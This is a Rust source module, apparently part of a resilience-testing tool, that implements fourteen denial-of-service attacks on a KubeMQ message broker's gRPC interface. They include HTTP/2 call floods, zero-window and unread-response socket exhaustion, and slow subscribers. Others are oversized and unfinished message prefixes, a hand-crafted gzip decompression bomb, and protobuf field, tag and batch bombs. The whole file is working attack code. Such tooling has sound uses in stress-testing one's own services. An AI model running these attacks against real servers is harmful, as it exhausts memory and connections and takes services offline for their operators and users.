//! Calls of the contract that ask for much more than they cost.

use std::net::SocketAddr;
use std::time::Duration;

use super::peer::{Peer, call, fields, flag, framed, kind, put};
use super::{Attack, Field, Over, Port, on};

pub(super) const ATTACKS: &[Attack] = &[
    on(Port::Grpc, "calls", calls),
    on(Port::Grpc, "unknown-methods", unknown_methods),
    on(Port::Grpc, "tiny-data", tiny_data),
    on(Port::Grpc, "zero-window", zero_window),
    on(Port::Grpc, "unread-answers", unread_answers),
    on(Port::Grpc, "slow-subscribers", slow_subscribers),
    on(Port::Grpc, "message-of-4-gib", message_of_4_gib),
    on(Port::Grpc, "unfinished-messages", unfinished_messages),
    on(Port::Grpc, "large-messages", large_messages),
    on(Port::Grpc, "gzip-bomb", gzip_bomb),
    on(Port::Grpc, "field-bomb", field_bomb),
    on(Port::Grpc, "tag-bomb", tag_bomb),
    on(Port::Grpc, "batch-bomb", batch_bomb),
    on(Port::Grpc, "upstream-bomb", upstream_bomb),
];

const PING: &str = "/kubemq.kubemq/Ping";
const SEND_EVENT: &str = "/kubemq.kubemq/SendEvent";
const SEND_EVENTS: &str = "/kubemq.kubemq/SendEventsStream";
const SUBSCRIBE: &str = "/kubemq.kubemq/SubscribeToEvents";
const BATCH: &str = "/kubemq.kubemq/SendQueueMessagesBatch";
const UPSTREAM: &str = "/kubemq.kubemq/QueuesUpstream";

/// What a frame of DATA takes.
const FRAME_BYTES: usize = 16 << 10;

/// Bytes of a message that is large and not refused for it.
const LARGE_BYTES: usize = 96 << 20;

/// Appends a field of protobuf with a length.
fn put_bytes(out: &mut Vec<u8>, field: u8, value: &[u8]) {
    out.push(field << 3 | 2);
    let mut length = value.len();
    while length >= 0x80 {
        out.push(u8::try_from(length & 0x7f).unwrap_or_default() | 0x80);
        length >>= 7;
    }
    out.push(u8::try_from(length).unwrap_or_default());
    out.extend_from_slice(value);
}

fn event(channel: &str, body: &[u8]) -> Vec<u8> {
    let mut message = Vec::new();
    put_bytes(&mut message, 2, b"attack");
    put_bytes(&mut message, 3, channel.as_bytes());
    put_bytes(&mut message, 5, body);
    message
}

/// Whole calls with an empty message, as many as fit.
fn whole_calls(peer: &mut Peer<'_>, path: &str) -> Result<(), Over> {
    let head = call(path);
    loop {
        let mut chunk = Vec::new();
        for _ in 0..200 {
            let stream = peer.next_stream()?;
            put(&mut chunk, kind::HEADERS, flag::END_HEADERS, stream, &head);
            put(
                &mut chunk,
                kind::DATA,
                flag::END_STREAM,
                stream,
                &framed(&[]),
            );
        }
        peer.send(&chunk)?;
    }
}

fn calls(field: &Field, address: SocketAddr) {
    field.peers(address, |peer| whole_calls(peer, PING));
}

fn unknown_methods(field: &Field, address: SocketAddr) {
    field.peers(address, |peer| whole_calls(peer, "/kubemq.kubemq/Nothing"));
}

/// An event in frames of a byte each.
fn tiny_data(field: &Field, address: SocketAddr) {
    let message = framed(&event("attack", &[7; 4_000]));
    field.peers(address, |peer| {
        let stream = peer.open(SEND_EVENTS, 0)?;
        peer.keep_uploading(stream, &message, 1)
    });
}

/// Calls whose answers may not be sent.
fn zero_window(field: &Field, address: SocketAddr) {
    field.sockets(address, |socket| {
        let mut peer = Peer::greet(field, socket, &[(4, 0)])?;
        whole_calls(&mut peer, PING)
    });
}

/// Calls whose answers stay in the sockets.
fn unread_answers(field: &Field, address: SocketAddr) {
    let head = call(PING);
    field.peers(address, |peer| {
        loop {
            let mut chunk = Vec::new();
            for _ in 0..200 {
                let stream = peer.next_stream()?;
                put(&mut chunk, kind::HEADERS, flag::END_HEADERS, stream, &head);
                put(
                    &mut chunk,
                    kind::DATA,
                    flag::END_STREAM,
                    stream,
                    &framed(&[]),
                );
            }
            peer.send_deaf(&chunk)?;
        }
    });
}

/// A hundred subscribers that read nothing, and somebody who has much to say to them.
fn slow_subscribers(field: &Field, address: SocketAddr) {
    let subscription = framed(b"\x08\x01\x12\x06attack\x1a\x0battack.slow");
    let message = framed(&event("attack.slow", &vec![7; 64 << 10]));
    let mut slow = Vec::new();
    for _ in 0..20 {
        let peer = field.connect(address).and_then(|socket| {
            let mut peer = Peer::greet(field, socket, &[(4, 0x7fff_ffff)])?;
            let mut chunk = Vec::new();
            for _ in 0..5 {
                let stream = peer.next_stream()?;
                let flags = flag::END_HEADERS;
                put(&mut chunk, kind::HEADERS, flags, stream, &call(SUBSCRIBE));
                put(
                    &mut chunk,
                    kind::DATA,
                    flag::END_STREAM,
                    stream,
                    &subscription,
                );
            }
            peer.send_deaf(&chunk)?;
            Ok(peer)
        });
        slow.extend(peer);
    }
    field.peers(address, |peer| {
        let stream = peer.open(SEND_EVENTS, 0)?;
        peer.keep_uploading(stream, &message, FRAME_BYTES)
    });
}

/// Prefixes that promise four gibibytes.
fn message_of_4_gib(field: &Field, address: SocketAddr) {
    let head = call(SEND_EVENT);
    field.peers(address, |peer| {
        loop {
            let mut chunk = Vec::new();
            for _ in 0..200 {
                let stream = peer.next_stream()?;
                put(&mut chunk, kind::HEADERS, flag::END_HEADERS, stream, &head);
                put(
                    &mut chunk,
                    kind::DATA,
                    0,
                    stream,
                    &[0, 0xff, 0xff, 0xff, 0xff],
                );
            }
            peer.send(&chunk)?;
        }
    });
}

/// As many streams as there may be, each with the beginning of a message.
fn unfinished_messages(field: &Field, address: SocketAddr) {
    let head = call(SEND_EVENT);
    let mut held = Vec::new();
    while !field.is_over() {
        let peer = field.connect(address).and_then(|socket| {
            let mut peer = Peer::greet(field, socket, &[])?;
            for large in [false, true] {
                let mut chunk = Vec::new();
                for _ in 0..2_000 {
                    let stream = peer.next_stream()?;
                    put(&mut chunk, kind::HEADERS, flag::END_HEADERS, stream, &head);
                    // 16,000 or 90 million bytes are promised, and one comes.
                    let promise = match large {
                        false => [0, 0, 0, 0x3e, 0x80, 0x0a],
                        true => [0, 5, 0x5d, 0x4a, 0x80, 0x0a],
                    };
                    put(&mut chunk, kind::DATA, 0, stream, &promise);
                }
                peer.send(&chunk)?;
            }
            Ok(peer)
        });
        held.extend(peer);
        if held.len() >= 16 {
            field.pause(Duration::from_millis(20));
        }
        held.retain_mut(|peer| peer.take_in().is_ok());
    }
}

/// Events of almost the largest size, which nobody gets.
fn large_messages(field: &Field, address: SocketAddr) {
    send(
        field,
        address,
        SEND_EVENT,
        &[],
        &framed(&event("attack", &vec![7; LARGE_BYTES])),
    );
}

/// The same call again and again, one after the other; `more` are further fields of its head.
fn send(field: &Field, address: SocketAddr, path: &str, more: &[(&str, &str)], message: &[u8]) {
    field.peers(address, |peer| {
        loop {
            let stream = peer.next_stream()?;
            let head = [call(path), fields(more)].concat();
            let mut frame = Vec::new();
            put(&mut frame, kind::HEADERS, flag::END_HEADERS, stream, &head);
            peer.send(&frame)?;
            peer.upload(stream, message, FRAME_BYTES)?;
            frame.clear();
            put(&mut frame, kind::DATA, flag::END_STREAM, stream, &[]);
            peer.send(&frame)?;
            peer.wait_end()?;
        }
    });
}

/// Writes bits of deflate.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    count: usize,
}

impl Bits {
    fn bit(&mut self, bit: bool) {
        if self.count.is_multiple_of(8) {
            self.bytes.push(0);
        }
        if let Some(last) = self.bytes.last_mut() {
            *last |= u8::from(bit) << (self.count % 8);
        }
        self.count += 1;
    }

    /// A code of Huffman, its first bit first.
    fn code(&mut self, code: u16, length: u16) {
        for at in (0..length).rev() {
            self.bit(code >> at & 1 == 1);
        }
    }
}

/// A message of gzip that inflates to 258 times `count` bytes, all the same.
fn bomb(count: usize) -> Vec<u8> {
    let mut bits = Bits::default();
    // The last block, with the fixed codes.
    bits.bit(true);
    bits.bit(true);
    bits.bit(false);
    bits.code(0x30, 8);
    for _ in 0..count {
        // 258 bytes from one byte back.
        bits.code(0b1100_0101, 8);
        bits.code(0, 5);
    }
    bits.code(0, 7);
    let head = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    let mut compressed = [&head[..], &bits.bytes, &[0; 8]].concat();
    let length = u32::try_from(compressed.len()).unwrap_or_default();
    let prefix = [&[1][..], &length.to_be_bytes()].concat();
    compressed.splice(0..0, prefix);
    compressed
}

fn gzip_bomb(field: &Field, address: SocketAddr) {
    let message = bomb(LARGE_BYTES / 258);
    send(
        field,
        address,
        SEND_EVENT,
        &[("grpc-encoding", "gzip")],
        &message,
    );
}

/// An event with fields that nobody knows, two bytes each.
fn field_bomb(field: &Field, address: SocketAddr) {
    let mut message = event("attack", b"");
    message.extend([0x78, 1].repeat(LARGE_BYTES / 2));
    send(field, address, SEND_EVENT, &[], &framed(&message));
}

/// An event with millions of tags.
fn tag_bomb(field: &Field, address: SocketAddr) {
    let mut message = event("attack", b"");
    for number in 0..LARGE_BYTES / 14 {
        let mut tag = Vec::new();
        put_bytes(&mut tag, 1, format!("{number:08}").as_bytes());
        put_bytes(&mut tag, 2, b"");
        put_bytes(&mut message, 7, &tag);
    }
    send(field, address, SEND_EVENT, &[], &framed(&message));
}

/// Queue messages that say nothing, in one call.
fn messages() -> Vec<u8> {
    let mut message = Vec::new();
    put_bytes(&mut message, 1, b"batch");
    message.extend([0x12, 0].repeat(LARGE_BYTES / 2));
    message
}

fn batch_bomb(field: &Field, address: SocketAddr) {
    send(field, address, BATCH, &[], &framed(&messages()));
}

fn upstream_bomb(field: &Field, address: SocketAddr) {
    send(field, address, UPSTREAM, &[], &framed(&messages()));
}
